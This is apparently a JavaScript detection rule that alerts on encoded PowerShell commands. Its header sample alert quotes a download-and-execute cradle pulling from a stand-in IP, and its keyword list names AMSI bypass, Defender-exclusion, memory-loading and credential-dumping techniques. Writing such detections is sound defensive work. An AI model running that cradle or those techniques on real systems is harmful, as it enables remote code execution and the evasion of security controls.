// ringside: title="PowerShell runs an encoded command" technique=T1059.001,T1027.010 level=medium tags=windows,execution
//
// What is behind -EncodedCommand is decoded, and it is what is in there that makes the level: management tools encode too, but they do not hide a window,
// fetch from an address and run the answer.
//
//     > ringside run encoded-powershell.js -o line
//     time=2026-05-05T10:22:18.004000000Z level=high rule=encoded-powershell message="CORP\\ada: IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a')"
//
// Known false positives: Ansible, Intune, SCCM and others encode what they run: level low, and those of `managers` not at all.
// References: https://attack.mitre.org/techniques/T1059/001/ https://attack.mitre.org/techniques/T1027/010/

import { anyWord, encodedCommand, shorten } from "ringside:text";

const managers = ["winrshost", "ccmexec", "agentexecutor", "microsoft.management.services.intunewindowsagent", "chef-client", "puppet"];
const hides = /-w(in(dowstyle)?)?\s+(h|hidden|1)\b|-nop(rofile)?\b.*-e(p|x\w*)\s+bypass/i;
const fetchesOrLoads = anyWord(
    [
        ...[
            "IEX",
            "Invoke-Expression",
            "DownloadString",
            "DownloadFile",
            "DownloadData",
            "Net.WebClient",
            "Invoke-WebRequest",
            "iwr",
            "irm",
        ],
        ...["Start-BitsTransfer", "FromBase64String", "Reflection.Assembly", "VirtualAlloc", "GetDelegateForFunctionPointer"],
        ...["AmsiUtils", "Add-MpPreference", "MiniDump", "Invoke-WmiMethod", "Invoke-CimMethod"],
    ],
    "i",
);

procs
    .where(
        os == "windows" &&
            name.in(["powershell", "pwsh"]) &&
            cmdline.matches(/\s[-/\u2013-\u2015]e\w*\s+["']?[A-Za-z0-9+/=]{16,}/i) &&
            !parent.in(managers),
    )
    .on((e) => {
        const command = encodedCommand(e.cmdline ?? "");
        if (command === undefined) {
            return;
        }
        const level = fetchesOrLoads.test(command) ? "high" : hides.test(e.cmdline ?? "") ? "medium" : "low";
        alert({ level, message: `${e.user}: ${shorten(command)}`, events: [e] });
    });
